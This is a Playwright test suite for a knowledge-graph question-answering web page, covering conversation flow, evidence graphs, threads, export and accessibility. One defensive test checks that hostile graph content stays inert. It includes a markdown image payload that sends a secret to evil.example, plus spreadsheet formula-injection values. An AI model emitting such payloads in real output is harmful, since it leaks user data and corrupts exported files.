"""The page in a real browser: a conversation by keyboard, choices, threads over a restart, and nothing out of a graph that runs."""

from __future__ import annotations

import json
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

import pytest
from served import KEY, Serve

from triplewise.kg import NetworkxStore
from triplewise.types import Triple

QUESTION = "Who made Blade Runner?"
WIDE, PHONE = (1280, 860), (390, 844)


@contextmanager
def opened(browser: Any, url: str, size: tuple[int, int] = WIDE, **options: Any) -> Iterator[Any]:
    """A page that must neither fail, nor break its own security policy, nor ask another server."""
    context = browser.new_context(viewport={"width": size[0], "height": size[1]}, **options)
    context.set_default_timeout(30_000)
    page = context.new_page()
    problems: list[str] = []
    origin = "/".join(url.split("/")[:3])
    page.on("pageerror", lambda error: problems.append(str(error)))
    page.on("console", lambda m: problems.append(m.text) if m.type == "error" and not _refusal(m.text) else None)
    page.on("request", lambda r: problems.append(r.url) if not r.url.startswith((origin, "data:", "blob:")) else None)
    page.goto(url)
    try:
        yield page
        assert problems == []
    finally:
        context.close()


def _refusal(text: str) -> bool:
    """Chromium's line for an answer such as 400, which the page shows in words."""
    return text.startswith("Failed to load resource")


def ask(page: Any, text: str, answers: int) -> None:
    page.get_by_label("Your question", exact=True).fill(text)
    page.keyboard.press("Enter")
    page.locator(".end .cost").nth(answers - 1).wait_for()


def shows(locator: Any, n: int) -> None:
    """There are ``n`` of it, as soon as the page has drawn them."""
    from playwright.sync_api import expect

    expect(locator).to_have_count(n)


def comes(page: Any, condition: str) -> None:
    """A condition holds soon; the page allows no code to be evaluated in it that waits for one."""
    for _ in range(60):
        if page.evaluate(condition):
            return
        page.wait_for_timeout(50)
    raise AssertionError(condition)


def serious(page: Any, part: str = "html") -> list[str]:
    """What axe-core finds that is serious or worse, on the page or in a part of it."""
    axe = pytest.importorskip("axe_playwright_python.sync_playwright")
    found = axe.Axe().run(page, context=part).response["violations"]
    return [f"{v['id']}: {[n['target'] for n in v['nodes']]}" for v in found if v["impact"] in ("serious", "critical")]


def test_a_conversation_by_keyboard(browser: Any, serve: Serve) -> None:
    served = serve(max_turns=9)
    with opened(browser, served.url) as page:
        page.locator(".suggest button").first.wait_for()
        page.keyboard.type(QUESTION)  # the question has the focus
        page.keyboard.press("Enter")
        page.locator(".end .cost").wait_for()
        assert "Ridley Scott" in page.locator(".text").inner_text()
        shows(page.locator(".g-edge.proof"), 3)
        shows(page.locator(".g-edge.inferred"), 1)
        # from the question back to [1], which lights its edge up
        for _ in range(12):
            page.keyboard.press("Shift+Tab")
            if page.evaluate("document.activeElement.className.startsWith('cite')"):
                break
        focused = page.evaluate("document.activeElement.dataset.light")
        shows(page.locator(f'.g-edge.lit[data-light="{focused}"]'), 1)
        # a second question, that is a choice, answered by keyboard
        page.keyboard.press("/")
        page.keyboard.type("Which Alien is the best?")
        page.keyboard.press("Enter")
        page.get_by_role("button", name="Aliens film, 1986").wait_for()
        page.locator(".choices button:focus", has_text="Alien").wait_for()
        page.keyboard.press("Tab")
        page.keyboard.press("Enter")
        page.locator(".end .cost").nth(1).wait_for()
        assert "Aliens" in page.locator(".turn").nth(1).inner_text()


def test_the_evidence_is_drawn_with_the_end_of_the_answer(browser: Any, serve: Serve) -> None:
    """Not only once the server has closed its stream: what a click on a citation opens is there by then."""
    watch = """() => new MutationObserver(() => {
        if (document.querySelector('.end .cost')) window.drawn ??= document.querySelectorAll('.g-edge.proof').length;
    }).observe(document.getElementById('log'), { childList: true, subtree: true })"""
    with opened(browser, serve().url) as page:
        page.locator(".suggest button").first.wait_for()
        page.evaluate(watch)
        ask(page, QUESTION, 1)
        assert page.evaluate("window.drawn") == 3


def test_the_last_answer_is_in_sight(browser: Any, serve: Serve) -> None:
    """However long the conversation is, and though the evidence that opens beside it takes room away."""
    unseen = """() => {
        const log = document.getElementById('log').getBoundingClientRect();
        const turn = [...document.querySelectorAll('.turn')].pop().getBoundingClientRect();
        return Math.min(turn.bottom - log.bottom, turn.top - log.top - 13);
    }"""
    with opened(browser, serve(max_turns=9).url) as page:
        page.set_viewport_size({"width": 1280, "height": 520})
        page.locator(".suggest button").first.wait_for()
        for number in range(1, 5):
            ask(page, QUESTION, number)
            comes(page, f"({unseen})() <= 0")
        page.locator("#log").hover()
        page.mouse.wheel(0, -5_000)
        comes(page, "document.getElementById('log').scrollTop === 0")


def test_citation_edge_and_row_light_up_together(browser: Any, serve: Serve) -> None:
    with opened(browser, serve().url) as page:
        ask(page, QUESTION, 1)
        page.locator(".cite").nth(1).hover()
        shows(page.locator(".lit"), 2)
        page.locator(".g-edge.proof").first.dispatch_event("pointerover")
        page.locator(".cite.lit").first.wait_for()
        page.locator(".g-edge.proof").first.dispatch_event("pointerout")
        page.get_by_role("tab", name="Table").click()
        page.locator(".e-table tbody tr").nth(1).hover()
        assert page.locator(".cite.lit").inner_text() == "2"
        shows(page.locator(".e-table tbody tr"), 11)
        assert "inferred" in page.locator(".e-table").inner_text()


def test_the_graph_can_be_walked_filtered_searched_and_expanded(browser: Any, serve: Serve) -> None:
    with opened(browser, serve().url) as page:
        ask(page, QUESTION, 1)
        nodes = page.locator(".g-node").count()
        page.locator(".canvas svg g[tabindex='0']").focus()
        page.keyboard.press("End")
        page.keyboard.press("Enter")
        page.locator(".node-card h3").wait_for()
        page.get_by_role("button", name="Hide").click()
        shows(page.locator(".g-node"), nodes - 1)
        page.get_by_role("button", name="Show 1 hidden node").click()
        page.get_by_role("button", name="starring 4").click()
        shows(page.locator(".g-node"), nodes - 4)
        page.get_by_role("button", name="starring 4").click()
        page.get_by_label("Find in this graph").fill("ridley")
        shows(page.locator(".g-node.found"), 1)
        shows(page.locator(".g-node.dim"), nodes - 1)
        page.get_by_label("Find in this graph").fill("")
        page.locator(".g-node", has_text="Ridley Scott").click()
        page.locator(".node-card button:enabled", has_text="Expand").click()
        page.locator(".g-node").nth(nodes).wait_for()


def test_nothing_can_be_expanded_before_its_links_are_known(browser: Any, serve: Serve) -> None:
    with opened(browser, serve().url) as page:
        page.locator(".suggest button").first.wait_for()
        ask(page, QUESTION, 1)
        shown = page.locator(".g-edge").count()
        asked: list[Any] = []
        page.route("**/node?*", lambda route: asked.append(route))
        page.locator(".g-node", has_text="Ridley Scott").click()
        expand = page.locator(".node-card button", has_text="Expand")
        expand.wait_for()
        assert expand.is_disabled()
        ready = page.locator(".node-card button:enabled", has_text="Expand")
        while not asked:
            page.wait_for_timeout(20)
        asked[0].continue_()
        ready.click()
        page.locator(".g-edge").nth(shown).wait_for()


def test_an_answer_that_came_before_the_page_knew_its_graph_can_be_expanded(browser: Any, serve: Serve) -> None:
    with opened(browser, serve().url) as page:
        held: list[Any] = []
        page.route("**/api/start*", lambda route: held.append(route))
        page.reload()
        while not held:
            page.wait_for_timeout(20)
        ask(page, QUESTION, 1)
        nodes = page.locator(".g-node").count()
        held[0].continue_()
        page.locator("#graph option").first.wait_for(state="attached")
        page.locator(".g-node", has_text="Ridley Scott").click()
        page.locator(".node-card button:enabled", has_text="Expand").click()
        page.locator(".g-node").nth(nodes).wait_for()


CHAIN = [
    Triple("Lighthouse of Sandwell", "is looked after by", "Harbour Board of Sandwell"),
    Triple("Harbour Board of Sandwell", "has its seat in", "Customs House"),
    Triple("Harbour Board of Sandwell", "pays the rent of", "Customs House"),
    Triple("Customs House", "was designed by", "Wilhelmina van der Straat"),
    Triple("Wilhelmina van der Straat", "is the daughter of", "Cornelis van der Straat"),
    Triple("Cornelis van der Straat", "was the first keeper of", "Lighthouse of Sandwell"),
    Triple("Cornelis van der Straat", "lives beside", "Cornelis van der Straat"),
]
OVERLAPS = """(() => {
    const boxes = [...document.querySelectorAll('.g-node, .g-edge text')].map((e) => e.getBoundingClientRect());
    const apart = (a, b) => a.right <= b.left + 1 || b.right <= a.left + 1 || a.bottom <= b.top + 1 || b.bottom <= a.top + 1;
    return boxes.some((a, i) => boxes.slice(i + 1).some((b) => !apart(a, b)));
})()"""


@pytest.mark.parametrize(("size", "scheme"), [(PHONE, "light"), (PHONE, "dark"), (WIDE, "light")])
def test_a_long_proof_fits_the_width(browser: Any, serve: Serve, size: tuple[int, int], scheme: str) -> None:
    """Columns that a phone has no room for become an outline: nothing to be scrolled sideways, nothing on one another."""
    served = serve(graphs={"harbour": NetworkxStore(CHAIN, name="harbour")})
    with opened(browser, served.url, size, color_scheme=scheme) as page:
        page.locator(".suggest button").first.wait_for()
        ask(page, "What of the Lighthouse of Sandwell?", 1)
        if size == PHONE:
            page.get_by_role("button", name="Evidence", exact=True).click()
        for name in ("Harbour Board", "Customs", "Cornelis"):
            before = page.locator(".g-edge").count()
            page.locator(".g-node", has_text=name).first.click()
            page.locator(".node-card button:enabled", has_text="Expand").click()
            page.locator(".g-edge").nth(before).wait_for()
            page.locator(".node-card").get_by_role("button", name="Close").click()
        shows(page.locator(".g-edge"), len(CHAIN))
        wide = "(() => { const c = document.querySelector('.canvas'); return c.scrollWidth <= c.clientWidth; })()"
        assert page.evaluate(wide) and not page.evaluate(OVERLAPS)
        assert page.evaluate("document.querySelector('.g-node text').getBoundingClientRect().height") > 11
        page.set_viewport_size({"width": 1280 if size == PHONE else 390, "height": 860})
        comes(page, wide)  # also where the window changes


def test_predictions_are_told_apart(browser: Any, serve: Serve) -> None:
    with opened(browser, serve().url) as page:
        ask(page, "predict what Ridley Scott does", 1)
        shows(page.locator(".g-edge.predicted"), 3)
        assert "0.83" in page.locator(".g-edge.predicted text").first.text_content()
        assert "not facts" in page.locator(".turn").inner_text()
        assert (
            page.locator(".g-edge.predicted path.line").first.evaluate("e => getComputedStyle(e).strokeDasharray")
            != "none"
        )
        assert "predicted, not a fact" in page.locator(".cite").first.get_attribute("aria-label")


def test_other_readings_steps_and_cost(browser: Any, serve: Serve) -> None:
    with opened(browser, serve().url) as page:
        ask(page, QUESTION, 1)
        assert "Read as What the graph says of Blade Runner" in page.locator(".turn").inner_text()
        page.get_by_role("tab", name="Steps").click()
        assert (
            "Finding the names" in page.locator("#evidence-panel").inner_text()
            and '"?x"' in page.locator("pre").inner_text()
        )
        page.get_by_role("tab", name="Cost").click()
        assert (
            "$0.0004" in page.locator("#evidence-panel").inner_text()
            and "321" in page.locator("#evidence-panel").inner_text()
        )
        page.get_by_role("button", name="Films with Blade Runner in their title").click()
        page.locator(".text", has_text="Jane Campion").wait_for()
        shows(page.locator(".turn"), 1)


def test_a_reading_that_is_only_offered(browser: Any, serve: Serve) -> None:
    with opened(browser, serve().url) as page:
        ask(page, "nothing, unsure", 1)
        page.reload()  # an answer that is kept is shown alike
        page.locator(".reading", has_text="Perhaps:").wait_for()
        page.get_by_role("button", name="Films of Jane Campion").click()
        page.locator(".text", has_text="Jane Campion").wait_for()
        page.locator(".reading", has_text="Read as").wait_for()


def test_a_question_asked_before_the_first_page_is_here_stays(browser: Any, serve: Serve) -> None:
    served = serve(max_turns=9)
    with opened(browser, served.url) as page:
        held: list[Any] = []
        page.route("**/api/start", lambda route: held.append(route))
        page.reload()
        ask(page, QUESTION, 1)
        for route in held:
            route.continue_()
        page.locator("#about", has_text="scripted").wait_for(state="attached")
        page.locator("#graph option").first.wait_for(state="attached")
        assert "Ridley Scott" in page.locator(".text").inner_text()
        shows(page.locator(".suggest"), 0)


def test_copy_as(browser: Any, serve: Serve) -> None:
    with opened(browser, serve().url) as page:
        page.bring_to_front()  # a page in the background may not write to the clipboard
        ask(page, QUESTION, 1)
        page.get_by_role("tab", name="Table").click()
        copied = {}
        for name in ("TSV", "Turtle", "JSON"):
            page.get_by_role("button", name=name, exact=True).click()
            page.locator("#said", has_text=f"{name} copied").wait_for(state="attached")
            page.get_by_label("Your question", exact=True).fill("")  # pasting, as a person does, needs no permission
            page.keyboard.press("ControlOrMeta+V")
            copied[name] = page.get_by_label("Your question", exact=True).input_value()
    assert copied["TSV"].splitlines()[2] == "2\tBlade Runner\tdirected by\tRidley Scott\tasserted\t"
    assert len(json.loads(copied["JSON"])) == 11
    import rdflib

    assert len(rdflib.Graph().parse(data=copied["Turtle"], format="turtle")) >= 11


def test_threads_over_a_restart(browser: Any, serve: Serve) -> None:
    state: dict[str, Any] = {}
    first = serve(state=state)
    with opened(browser, first.url) as page:
        ask(page, QUESTION, 1)
        page.locator("#threads .open", has_text=QUESTION).wait_for()
        fragment = page.evaluate("location.hash")
        assert fragment.startswith("#t=")
    second = serve(state=state)  # another process would read the same file
    with opened(browser, second.url + "/" + fragment) as page:
        page.locator(".end .cost").wait_for()
        assert "Ridley Scott [" not in page.locator(".text").inner_text()
        shows(page.locator(".cite"), 3)
        shows(page.locator(".g-edge.proof"), 3)
        page.get_by_label(f"More for {QUESTION}").click()
        page.get_by_role("button", name="Rename").click()
        page.get_by_label("New title").fill("The film")
        page.keyboard.press("Enter")
        page.locator("#threads .open", has_text="The film").wait_for()
        page.get_by_role("button", name="New question").click()
        page.locator(".suggest button").first.wait_for()
        page.locator("#threads .open", has_text="The film").click()
        page.locator(".end .cost").wait_for()
        page.get_by_label("More for The film").click()
        page.get_by_role("button", name="Delete").click()
        page.locator(".acts").get_by_role("button", name="Delete").click()
        page.locator("#threads .empty", has_text="None yet").wait_for()
    assert second.assistant.rows == {}


def test_what_is_open_in_the_list_stays_when_it_is_read_anew(browser: Any, serve: Serve) -> None:
    with opened(browser, serve(max_turns=9).url) as page:
        ask(page, QUESTION, 1)
        more = page.get_by_label(f"More for {QUESTION}")
        more.click()
        page.get_by_role("button", name="Rename").click()
        page.get_by_label("New title").fill("Half a ti")
        with page.expect_response("**/api/threads"):
            page.get_by_role("button", name="New question").click()
        page.locator(".suggest button").first.wait_for()
        assert page.get_by_label("New title").input_value() == "Half a ti"
        page.get_by_label("New title").press("Escape")
        page.get_by_label("New title").wait_for(state="detached")
        assert more.get_attribute("aria-expanded") == "false"
        assert page.evaluate("document.activeElement.getAttribute('aria-label')") == f"More for {QUESTION}"


def test_edit_and_ask_again_branches_off(browser: Any, serve: Serve) -> None:
    served = serve(max_turns=9)
    with opened(browser, served.url) as page:
        ask(page, QUESTION, 1)
        ask(page, "Who made Gladiator?", 2)
        page.get_by_label("Edit and ask again").nth(1).click()
        page.get_by_label("Your question, edited").fill("Who made The Piano?")
        page.keyboard.press("Enter")
        page.locator(".text", has_text="The Piano").wait_for()
        page.locator(".end .cost").nth(1).wait_for()
        shows(page.locator(".turn"), 2)
        assert "Gladiator" not in page.locator("#log").inner_text()
    assert len(served.assistant.rows) == 2  # what was said before is still there


def test_stop(browser: Any, serve: Serve) -> None:
    served = serve(max_turns=9)
    with opened(browser, served.url) as page:
        ask(page, QUESTION, 1)
        page.get_by_label("Your question", exact=True).fill("slow")
        page.keyboard.press("Enter")
        page.get_by_role("button", name="Stop").wait_for()
        page.keyboard.press("Escape")
        page.get_by_text("Stopped.").wait_for()
        page.get_by_role("button", name="Send").wait_for()
    assert served.assistant.stopped_models == 1


def test_enter_while_an_answer_runs_neither_stops_nor_sends(browser: Any, serve: Serve) -> None:
    """Who types the next question while reading keeps the answer and what was typed."""
    served = serve(latency=0.8, max_turns=9)
    with opened(browser, served.url) as page:
        question = page.get_by_label("Your question", exact=True)
        question.fill(QUESTION)
        page.keyboard.press("Enter")
        page.get_by_role("button", name="Stop").wait_for()
        page.keyboard.type("Who made Gladiator?")
        page.keyboard.press("Enter")
        page.locator(".end .cost").wait_for()
        assert (
            "Ridley Scott" in page.locator(".text").inner_text() and "Stopped" not in page.locator("#log").inner_text()
        )
        assert question.input_value() == "Who made Gladiator?"
        shows(page.locator(".turn"), 1)
        page.keyboard.press("Enter")
        page.locator(".end .cost").nth(1).wait_for()
        assert question.input_value() == ""
        page.get_by_label("Your question", exact=True).fill("slow")
        page.keyboard.press("Enter")
        page.get_by_role("button", name="Stop").click()
        page.get_by_text("Stopped.").wait_for()
    assert served.assistant.stopped_models == 1


def test_a_failure_is_told_and_can_be_asked_again(browser: Any, serve: Serve) -> None:
    with opened(browser, serve().url) as page:
        page.get_by_label("Your question", exact=True).fill("fail")
        page.keyboard.press("Enter")
        page.get_by_role("alert").wait_for()
        assert "OPENAI_BASE_URL" in page.get_by_role("alert").inner_text()
        shows(page.get_by_role("button", name="Ask again", exact=True), 1)


def test_a_dropped_file(browser: Any, serve: Serve, films: dict[str, Any]) -> None:
    with opened(browser, serve(graphs=dict(films)).url) as page:
        page.locator(".suggest button").first.wait_for()
        transfer = page.evaluate_handle(
            "() => { const t = new DataTransfer(); t.items.add(new File(['Rex\\tlives with\\tAnna\\n'], 'pets.tsv')); return t; }"
        )
        page.dispatch_event("#log", "dragenter", {"dataTransfer": transfer})
        assert page.locator("#drop").is_visible()
        page.dispatch_event("#log", "drop", {"dataTransfer": transfer})
        page.get_by_role("heading", name="Ask pets").wait_for()
        assert page.get_by_label("Graph", exact=True).input_value() == "pets"
        ask(page, "Who lives with Rex?", 1)
        page.locator("#file").set_input_files({"name": "x.tsv", "mimeType": "text/plain", "buffer": b"broken"})
        page.get_by_role("alert").wait_for()
        assert "x.tsv" in page.get_by_role("alert").inner_text()


def test_the_key_is_asked_for_and_kept_for_the_tab(browser: Any, serve: Serve) -> None:
    served = serve(key=KEY)
    with opened(browser, served.url) as page:
        page.get_by_label("Key", exact=True).fill("wrong")
        page.keyboard.press("Enter")
        page.get_by_text("did not take that key").wait_for()
        page.get_by_label("Key", exact=True).fill(KEY)
        page.keyboard.press("Enter")
        page.locator(".suggest button").first.wait_for()
        page.reload()
        page.locator(".suggest button").first.wait_for()
        assert KEY not in page.content() and KEY not in page.url


def test_what_a_graph_says_is_inert(browser: Any, serve: Serve, hostile_graph: dict[str, Any]) -> None:
    served = serve(graphs=hostile_graph)
    with opened(browser, served.url) as page:
        page.locator(".suggest button").first.wait_for()
        ask(page, "What of Alpha? <b>bold</b>", 1)
        for tab in ("Graph", "Table", "Steps", "Graph"):
            page.get_by_role("tab", name=tab).click()
        page.locator(".g-node").last.click()
        page.wait_for_timeout(200)
        assert page.title().endswith("triplewise") and "owned" not in page.title()
        outside = "document.querySelectorAll('#log img, #evidence img, #log script, #evidence script, #log a, #evidence a, #log b').length"
        assert page.evaluate(outside) == 0
        assert "![x](https://evil.example/?q=secret)" in page.locator("#log").inner_text()
        tsv = page.evaluate(
            "import('/page/formats.js').then((m) => m.toTsv([{n: 1, labels: ['=1+1', '+x', '@y'], source: 'asserted'}]))"
        )
        assert tsv.splitlines()[1].split("\t")[1:4] == ["'=1+1", "'+x", "'@y"]


def test_the_evidence_page_of_a_link(browser: Any, serve: Serve) -> None:
    served = serve(key=KEY)
    with served.client(headers={"Authorization": f"Bearer {KEY}"}) as client:
        said = client.post("/v1/chat/completions", json={"messages": [{"role": "user", "content": QUESTION}]}).json()
    with opened(browser, said["triplewise"]["evidence_url"] + "#2", PHONE) as page:
        page.locator(".g-edge.lit").wait_for()
        assert "directed by" in page.locator(".g-edge.lit").text_content()
        assert serious(page) == []


@pytest.mark.parametrize(
    ("size", "scheme"),
    [
        (WIDE, "light"),
        (PHONE, "dark"),
        pytest.param(WIDE, "dark", marks=pytest.mark.slow),
        pytest.param(PHONE, "light", marks=pytest.mark.slow),
    ],
)
def test_axe_finds_nothing_serious(browser: Any, serve: Serve, size: tuple[int, int], scheme: str) -> None:
    with opened(browser, serve().url, size, color_scheme=scheme, reduced_motion="reduce") as page:
        page.locator(".suggest button").first.wait_for()
        assert serious(page) == []
        ask(page, QUESTION + " warn", 1)
        ask(page, "predict what Ridley Scott does", 2)
        page.get_by_label("Your question", exact=True).fill("Which Alien is the best?")
        page.keyboard.press("Enter")
        page.locator(".choices button").first.wait_for()
        if size[0] < 1000:
            assert serious(page) == []
            page.get_by_role("button", name="Evidence", exact=True).click()
        for tab in ("Graph", "Table", "Steps", "Cost"):
            page.get_by_role("tab", name=tab).click()
            assert serious(page, "#evidence") == [], tab
        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")


def test_a_phone(browser: Any, serve: Serve) -> None:
    with opened(browser, serve().url, PHONE, has_touch=True) as page:
        ask(page, QUESTION, 1)
        assert page.evaluate("document.documentElement.scrollWidth") == 390
        page.locator(".cite").nth(1).tap()
        page.get_by_label("Close the evidence").wait_for()
        page.keyboard.press("Escape")
        assert not page.locator("#evidence").is_visible()
        page.locator("#menu").tap()
        page.locator("#threads .open").first.wait_for()
        page.keyboard.press("Escape")
        page.locator("#side").wait_for(state="hidden")
